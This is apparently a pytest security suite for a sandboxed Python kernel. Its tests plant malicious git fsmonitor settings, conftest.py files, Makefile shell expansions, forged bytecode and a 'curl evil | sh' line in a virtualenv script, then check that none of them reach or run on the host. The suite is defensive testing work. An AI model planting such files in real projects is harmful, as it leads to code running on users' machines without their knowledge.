"""Files the guest leaves in a read-write mount for host programs to run: they never reach the host.

Promise (docs/security.md, "Host folders are default-deny"): the supervisor makes every change to a host folder
(the worker may write no host file) and lets through only plain data files (host_ts/host_writes.json); tool files
(`.git/`, `conftest.py`, Makefiles, `*.pth`, `__pycache__/*.pyc`, editor and agent settings, shell dotfiles, ...)
stay in the sandbox's own layer over the folder, where they work; nothing is written inside a virtual environment,
no symlinks, no setuid, world-writable or executable modes; `mount_limits[...]["host_writes"] = "any"` lets every
file name through for one mount (the other rules stay). Each test here
plants the file the way an attacker would (Python, Pyodide's FS from JS, Deno's and Node's APIs on the host
path, a rename of an innocent file) and then runs the host program that would trust it.
"""

from __future__ import annotations

import json
import os
import py_compile
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from attack_kit import assert_alive, result, token

from conftest import execute, start_kernel, stop_kernel, value

MARKER_DIR = Path(os.environ.get("TMPDIR", "/tmp"))


def marker_path() -> Path:
    return MARKER_DIR / f"planted-{token('m')}"


def host(argv: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GIT_", "PYTEST_", "COV_CORE_"))}
    return subprocess.run(argv, cwd=cwd, capture_output=True, text=True, timeout=120, env=env)


def ways_to_write(guest_path: str, text: str) -> dict[str, str]:
    """Guest code that writes `text` to `guest_path` (inside /out) by each route an attacker has."""
    rel = guest_path.removeprefix("/out/")
    js_host = (
        "import pyodide_js, pyodide.code\nhost = pyodide_js.FS.lookupPath('/out').node.mount.opts.root\n"
        "await pyodide.code.run_js({js!r})(host, {rel!r}, {text!r})"
    )
    return {
        "python": f"import os\nos.makedirs(os.path.dirname({guest_path!r}), exist_ok=True)\n"
        f"open({guest_path!r}, 'a').write({text!r})",
        "pyodide-fs": "import pyodide_js, pyodide.code\n"
        f"pyodide.code.run_js('(FS, p, t) => FS.writeFile(p, t)')(pyodide_js.FS, {guest_path!r}, {text!r})",
        "rename": f"import os\nos.makedirs(os.path.dirname({guest_path!r}), exist_ok=True)\n"
        f"open('/out/innocent.txt', 'w').write({text!r})\nos.replace('/out/innocent.txt', {guest_path!r})",
        "deno-host-path": js_host.format(
            js="(h, r, t) => { Deno.mkdirSync(h + '/' + r.split('/').slice(0, -1).join('/'), {recursive: true});"
            " Deno.writeTextFileSync(h + '/' + r, t, {append: true}) }",
            rel=rel,
            text=text,
        ),
        "node-fs-host-path": js_host.format(
            js="async (h, r, t) => { const fs = await import('node:fs'); fs.mkdirSync(h + '/' + r.split('/')"
            ".slice(0, -1).join('/'), {recursive: true}); fs.appendFileSync(h + '/' + r, t) }",
            rel=rel,
            text=text,
        ),
    }


ROUTES = ["python", "pyodide-fs", "rename", "deno-host-path", "node-fs-host-path"]


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    """A project folder as a user has one: a git repository with a module, tests, a Makefile and a virtualenv."""
    folder = tmp_path_factory.mktemp("project")
    (folder / "mod.py").write_text("VALUE = 1\n")
    (folder / "tests").mkdir()
    (folder / "tests" / "test_mod.py").write_text("def test_ok():\n    assert True\n")
    (folder / "Makefile").write_text("all:\n\t@echo built\n")
    (folder / "venv" / "bin").mkdir(parents=True)
    (folder / "venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (folder / "venv" / "bin" / "activate").write_text("# activate\n")
    assert host(["git", "init", "-q", "."], folder).returncode == 0
    return folder


@pytest.fixture(scope="module")
def mounted(project):
    km, kc = start_kernel([f"--SandboxKernel.mounts=['{project}:/out:rw']"])
    yield km, kc
    stop_kernel(km, kc)


@pytest.fixture
def untouched(project):
    """The project's own files stay as they were (and whatever a test planted anyway is removed after it)."""
    before = {p: p.read_bytes() for p in project.rglob("*") if p.is_file() and ".git" not in p.parts}
    git_config = (project / ".git" / "config").read_bytes()
    yield
    assert (project / ".git" / "config").read_bytes() == git_config, "LEAK: .git/config was changed"
    for path, data in before.items():
        assert path.read_bytes() == data, f"LEAK: {path} was changed"


HOST_PATH_ROUTES = ("deno-host-path", "node-fs-host-path")


def kept_off_the_host(run, route: str) -> None:
    """Through the host path, Deno refuses the write (the worker may write no host file); through the sandbox's
    file system it works, in the sandbox's own layer (the host folder is checked by each test)."""
    if route in HOST_PATH_ROUTES:
        assert run.content["status"] == "error", f"the write went through: {run.content}"
        assert "NotCapable" in run.content["evalue"], run.content
    else:
        assert run.content["status"] == "ok", run.content


@pytest.mark.parametrize("route", ROUTES)
def test_git_runs_nothing_the_guest_wrote_into_git_config(mounted, project, untouched, route):
    """core.fsmonitor names a program that any `git status` runs (shell prompts, editors, jupyterlab-git)."""
    _, kc = mounted
    marker = marker_path()
    payload = f"\n[core]\n\tfsmonitor = touch {marker}\n"
    run = execute(kc, ways_to_write("/out/.git/config", payload)[route])
    kept_off_the_host(run, route)
    if route == "python":
        assert "/out/.git/config stays inside the sandbox" in run.stream("stderr"), run.outputs
    assert host(["git", "status", "--short"], project).returncode == 0
    assert not marker.exists(), "LEAK: git ran the guest's fsmonitor"
    assert_alive(kc)


@pytest.mark.parametrize("route", ROUTES)
def test_a_new_repository_in_a_subfolder_cannot_be_planted(mounted, project, route):
    _, kc = mounted
    marker = marker_path()
    config = f"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch {marker}\n"
    try:
        run = execute(kc, ways_to_write("/out/sub/.git/config", config)[route])
        kept_off_the_host(run, route)
        assert not (project / "sub" / ".git").exists()
        host(["git", "status"], project / "sub") if (project / "sub").is_dir() else None
        assert not marker.exists(), "LEAK: git ran the guest's fsmonitor"
    finally:
        shutil.rmtree(project / "sub", ignore_errors=True)
        (project / "innocent.txt").unlink(missing_ok=True)


@pytest.mark.parametrize("route", ROUTES)
def test_pytest_imports_no_conftest_the_guest_wrote(mounted, project, route):
    _, kc = mounted
    marker = marker_path()
    try:
        run = execute(kc, ways_to_write("/out/tests/conftest.py", f"open({str(marker)!r}, 'w').write('x')\n")[route])
        kept_off_the_host(run, route)
        proc = host([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "--no-cov", "tests"], project)
        assert "1 passed" in proc.stdout, proc.stdout + proc.stderr
        assert not marker.exists(), "LEAK: pytest imported the guest's conftest.py"
    finally:
        (project / "tests" / "conftest.py").unlink(missing_ok=True)
        (project / "innocent.txt").unlink(missing_ok=True)


@pytest.mark.parametrize("route", ROUTES)
def test_make_runs_nothing_the_guest_wrote_into_a_makefile(mounted, project, untouched, route):
    """`make -n` (and the shell's Tab completion of make targets) expands $(shell ...)."""
    _, kc = mounted
    marker = marker_path()
    run = execute(kc, ways_to_write("/out/Makefile", f"\nX := $(shell touch {marker})\n")[route])
    kept_off_the_host(run, route)
    assert host(["make", "-n"], project).returncode == 0
    assert not marker.exists(), "LEAK: make ran the guest's $(shell ...)"


def test_bytecode_next_to_the_users_module_is_refused(mounted, project, tmp_path):
    """A __pycache__/*.pyc that matches mod.py would be imported by the host's Python instead of mod.py."""
    _, kc = mounted
    marker = marker_path()
    source = tmp_path / "mod.py"
    source.write_text(f"open({str(marker)!r}, 'w').write('x')\nVALUE = 666\n")
    compiled = tmp_path / "mod.pyc"  # unchecked: Python uses it whatever mod.py holds
    py_compile.compile(
        str(source), cfile=str(compiled), invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH
    )
    tag = sys.implementation.cache_tag
    code = (
        f"import os\nos.makedirs('/out/__pycache__', exist_ok=True)\n"
        f"open('/out/__pycache__/mod.{tag}.pyc', 'wb').write(bytes.fromhex({compiled.read_bytes().hex()!r}))"
    )
    run = execute(kc, code)
    assert run.content["status"] == "ok", run.content  # Python's own caches stay inside, without a notice
    assert not list(project.glob("__pycache__/*.pyc"))
    proc = host([sys.executable, "-c", "import mod; print(mod.VALUE)"], project)
    assert proc.stdout.strip() == "1" and not marker.exists(), "LEAK: the host imported the guest's bytecode"


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        (".vscode/tasks.json", "editors"),
        (".idea/workspace.xml", "editors"),
        (".pre-commit-config.yaml", "hooks"),
        ("evil.pth", "python"),
        ("pyproject.toml", "python"),
        ("setup.py", "python"),
        (".envrc", "shell"),
        (".bashrc", "shell"),
        (".mcp.json", "agents"),
        (".claude/settings.json", "agents"),
        ("node_modules/.bin/jest", "packages"),
        ("jupyter_server_config.py", "jupyter"),
        ("CMakeLists.txt", "build"),
        (".GIT/config", "version-control"),  # case-insensitive file systems (macOS) see .git
        (".git\u200c/config", "version-control"),  # an ignorable code point git on HFS+ drops
        ("Makefile.", "build"),  # a trailing dot (Windows drops it)
    ],
)
def test_tool_files_stay_inside_the_sandbox_at_any_depth(mounted, project, path, rule):
    _, kc = mounted
    deep = f"deep-{token('d')}"  # a folder of its own: Pyodide caches what it saw of the mount
    for where in (path, f"{deep}/er/{path}"):
        run = execute(kc, ways_to_write(f"/out/{where}", "planted")["python"] + f"\nopen('/out/{where}').read()")
        assert value(run) == "'planted'", run.content
        assert "stays inside the sandbox" in run.stream("stderr"), run.outputs
        assert not (project / where).exists()
        assert not (project / deep).exists()
    execute(kc, f"import shutil\nshutil.rmtree('/out/{deep}', ignore_errors=True)")


def test_a_virtual_environment_in_the_mount_is_not_changed(mounted, project, untouched):
    _, kc = mounted
    run = execute(kc, "open('/out/venv/bin/activate', 'a').write('curl evil | sh')")
    assert run.content["status"] == "ok", run.content  # not a data file: it stays inside the sandbox
    run = execute(kc, "open('/out/venv/notes.csv', 'w').write('a data file, but in a virtual environment')")
    assert run.content["ename"] == "PermissionError"
    assert "inside the Python virtual environment /out/venv" in run.content["evalue"]
    run = execute(kc, "import os\nos.rename('/out/venv', '/out/venv2')")
    # Part of venv is in the sandbox's layer now (activate, above): it cannot move as one folder.
    assert run.content["ename"] == "OSError" and "Cross-device" in run.content["evalue"], run.content


def test_no_symlinks_and_no_executables_are_made(mounted, project):
    _, kc = mounted
    run = execute(
        kc,
        'import pyodide_js, pyodide.code\npyodide.code.run_js(\'(FS) => FS.symlink("/out/mod.py", "/out/alias")\')(pyodide_js.FS)',
    )
    assert run.content["status"] == "ok", run.content  # the link is the sandbox's own
    assert not (project / "alias").exists() and not (project / "alias").is_symlink()
    try:
        run = execute(
            kc, "import os\nopen('/out/tool.csv', 'w').write('#!/bin/sh\\nid')\nos.chmod('/out/tool.csv', 0o4755)"
        )
        assert run.content["status"] == "ok", run.content
        assert (project / "tool.csv").stat().st_mode & 0o7777 == 0o644  # no setuid, not executable
    finally:
        (project / "tool.csv").unlink(missing_ok=True)


def test_ordinary_files_and_folders_are_written_as_usual(mounted, project):
    _, kc = mounted
    code = (
        "import os, pathlib, shutil\nos.makedirs('/out/results/run1', exist_ok=True)\n"
        "pathlib.Path('/out/results/run1/data.csv').write_text('a,b\\n1,2\\n')\n"
        "with open('/out/results/run1/data.csv', 'r+') as f:\n    f.seek(0, 2); f.write('3,4\\n')\n"
        "shutil.copy('/out/results/run1/data.csv', '/out/results/copy.csv')\n"
        "os.rename('/out/results/copy.csv', '/out/results/moved.csv')\n"
        "os.truncate('/out/results/moved.csv', 4)\n"
        "sorted(os.listdir('/out/results')), open('/out/results/moved.csv').read()"
    )
    try:
        assert value(execute(kc, code)) == "(['moved.csv', 'run1'], 'a,b\\n')"
        assert (project / "results" / "run1" / "data.csv").read_text() == "a,b\n1,2\n3,4\n"
        assert value(execute(kc, "shutil.rmtree('/out/results')\nos.path.exists('/out/results')")) == "False"
    finally:
        shutil.rmtree(project / "results", ignore_errors=True)


def test_a_mount_can_take_any_file_for_people_who_know(tmp_path):
    folder = tmp_path / "build"
    folder.mkdir()
    limits = json.dumps({"/out": {"host_writes": "any"}})
    km, kc = start_kernel([f"--SandboxKernel.mounts=['{folder}:/out:rw']", f"--SandboxKernel.mount_limits={limits}"])
    try:
        run = execute(kc, "open('/out/Makefile', 'w').write('all:\\n\\techo ok\\n')")
        assert run.content["status"] == "ok" and run.stream("stderr") == "", run.outputs
        assert (folder / "Makefile").is_file()
        code = "import os\nopen('/out/run.sh', 'w').write('id')\nos.chmod('/out/run.sh', 0o4755)\nos.symlink('/tmp', '/out/e')"
        assert execute(kc, code).content["status"] == "ok"
        assert (folder / "run.sh").stat().st_mode & 0o7777 == 0o644  # the mode rules stay
        assert not (folder / "e").is_symlink()  # and no link reaches the host
    finally:
        stop_kernel(km, kc)


def test_the_writes_go_through_the_supervisor_not_the_worker(mounted, project):
    """Sanity for the routes above: the worker holds no write permission on the host at all."""
    _, kc = mounted
    code = (
        "import pyodide_js, pyodide.code\nhost = pyodide_js.FS.lookupPath('/out').node.mount.opts.root\n"
        "await pyodide.code.run_js('async (h) => (await Deno.permissions.query({name: \"write\", path: h})).state')(host)"
    )
    assert result(execute(kc, code)) == "'prompt'"  # not granted (and Deno runs with --no-prompt: never asked)
    write = (
        code.rsplit("\n", 1)[0] + '\npyodide.code.run_js(\'(h) => Deno.writeTextFileSync(h + "/x.txt", "x")\')(host)'
    )
    run = execute(kc, write)
    assert run.content["ename"] == "JsException" and "NotCapable: Requires write access" in run.content["evalue"]
    assert not (project / "x.txt").exists()


# ---- secrets at a mount's top ------------------------------------------------------------------


@pytest.fixture(scope="module")
def with_secrets(tmp_path_factory):
    """A project folder that keeps secrets beside the code, as many do."""
    folder = tmp_path_factory.mktemp("secrets")
    secret = token("secret")
    (folder / ".ssh").mkdir()
    (folder / ".ssh" / "id_ed25519").write_text(secret)
    (folder / ".env").write_text(f"API_KEY={secret}\n")
    (folder / ".aws").mkdir()
    (folder / ".aws" / "credentials").write_text(secret)
    (folder / "data.csv").write_text("a,b\n")
    return folder, secret


@pytest.mark.parametrize("mode", ["ro", "rw"])
def test_secret_folders_at_a_mounts_top_are_hidden(with_secrets, mode):
    folder, secret = with_secrets
    km, kc = start_kernel([f"--SandboxKernel.mounts=['{folder}:/proj:{mode}']"])
    try:
        assert value(execute(kc, "import os\nsorted(os.listdir('/proj'))")) == "['data.csv']"
        for path in ("/proj/.ssh/id_ed25519", "/proj/.env", "/proj/.aws/credentials"):
            run = execute(kc, f"open({path!r}).read()")
            assert run.content["ename"] == "PermissionError", run.content
            assert secret not in json.dumps(run.content)
        js = (
            "import pyodide_js, pyodide.code\nhost = pyodide_js.FS.lookupPath('/proj').node.mount.opts.root\n"
            "pyodide.code.run_js('(h) => Deno.readTextFileSync(h + \"/.ssh/id_ed25519\")')(host)"
        )
        run = execute(kc, js)
        assert run.content["ename"] == "JsException" and "NotCapable: Requires read access" in run.content["evalue"]
        assert secret not in json.dumps(run.content)
    finally:
        stop_kernel(km, kc)
